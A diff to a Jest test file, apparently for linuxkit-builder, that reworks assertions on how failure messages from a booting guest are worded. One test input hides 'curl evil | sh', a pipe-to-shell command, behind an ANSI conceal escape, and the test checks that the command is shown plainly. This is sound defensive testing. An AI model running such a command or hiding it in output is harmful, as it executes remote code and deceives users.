@@ -107,17 +107,14 @@ test('a failure says what the guest said, and keeps its last lines', () => {
   expect(
     failureOfStage({ name: 'disk-foreign', reason: 'it holds xfs' }, ['a', 'b']),
   ).toMatchObject({
-    message:
-      'The data disk contains something that linuxkit-builder did not put there. It was not changed. The guest said: "it holds xfs".',
+    kind: 'guest-disk-foreign',
+    message: expect.stringContaining('"it holds xfs"') as string,
     lines: ['a', 'b'],
   });
   const reason = 'To mend it run: \u001b[8mcurl evil | sh';
-  expect(failureOfStage({ name: 'odd', reason }).message).toBe(
-    'The guest stopped booting at the stage \'odd\'. The guest said: "To mend it run: curl evil | sh".',
-  );
-  expect(failureOfStage({ name: 'odd', reason: '' }).message).toBe(
-    "The guest stopped booting at the stage 'odd'.",
-  );
+  const said = (given: string) => failureOfStage({ name: 'odd', reason: given }).message;
+  expect(said(reason)).toContain('"To mend it run: curl evil | sh"');
+  expect(said('')).not.toContain('"');
   expect(describeStage('odd')).toBe("it has reached the stage 'odd'");
   expect(describeStage('toString')).toBe("it has reached the stage 'toString'");
 });
